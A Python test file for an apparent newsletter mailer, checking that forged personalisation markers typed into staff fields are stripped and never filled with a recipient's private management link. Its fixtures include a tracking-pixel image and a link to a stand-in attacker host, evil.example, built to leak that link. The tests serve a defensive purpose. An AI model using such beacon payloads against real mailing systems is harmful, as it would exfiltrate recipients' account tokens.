"""Issue 10, item 3: personalisation markers typed by staff are never filled with a recipient's links."""
from __future__ import annotations

import html as html_lib

from sqlalchemy import update

from mailer.composing.mailing import CompiledMailing
from mailer.extensions import db
from mailer.models import Mailing, Subscriber
from mailer.sending.deliveries import Recipient
from tests.helpers import form_fields
from tests.factories import create_mailing, create_subscribers
from tests.helpers import topic_ids

FORGED = "\ue000manage_url\ue001"
BEACON = f'<img src="https://evil.example/p.gif?m={FORGED}">'


def _recipient(subscriber: Subscriber) -> Recipient:
    return Recipient(delivery_id=1, subscriber_id=subscriber.id, email=subscriber.email, name="Åse",
                     language="da", public_id=subscriber.public_id, token_secret=subscriber.token_secret, attempts=0)


def test_a_forged_marker_in_stored_content_is_not_filled(app):
    with app.app_context():
        [subscriber_id] = create_subscribers(1)
        mailing_id = create_mailing("newsletter")
        db.session.execute(update(Mailing).where(Mailing.id == mailing_id).values(
            body_markdown_da="Hej\n\n" + BEACON + "\n\n[klik](https://evil.example/?m=" + FORGED + ")",
            preheader_da="Se " + FORGED))
        db.session.commit()
        mailing = db.session.get(Mailing, mailing_id)
        message = CompiledMailing(mailing, "da").personalise(_recipient(db.session.get(Subscriber, subscriber_id)))
    for part in (message.html, message.text):
        assert "evil.example/p.gif?m=https" not in html_lib.unescape(part)
        assert "evil.example/?m=https" not in html_lib.unescape(part)
        assert "\ue000" not in part and "\ue001" not in part
    # The template's own links are still the recipient's.
    assert "https://news.example.org/manage/" in message.text


def test_markers_are_stripped_from_every_staff_field(app, editor):
    page = editor.get("/staff/mailings/new").get_data(as_text=True)
    response = editor.post("/staff/mailings/new", data={
        **form_fields(page), "subject_da": "Emne " + FORGED, "preheader_da": "Før " + FORGED,
        "body_markdown_da": "Tekst " + BEACON, "subject_en": "Subject " + FORGED, "body_markdown_en": "Text " + BEACON, "topics": [str(t) for t in topic_ids(app, "newsletter")],
        "audience_language": "da", "event_id": "None", "template_id": "None"})
    assert response.status_code == 303
    with app.app_context():
        mailing = db.session.scalars(db.select(Mailing)).one()
        for value in (mailing.subject_da, mailing.preheader_da, mailing.body_markdown_da, mailing.subject_en,
                      mailing.body_markdown_en):
            assert "\ue000" not in value and "\ue001" not in value
        assert mailing.subject_da == "Emne manage_url"
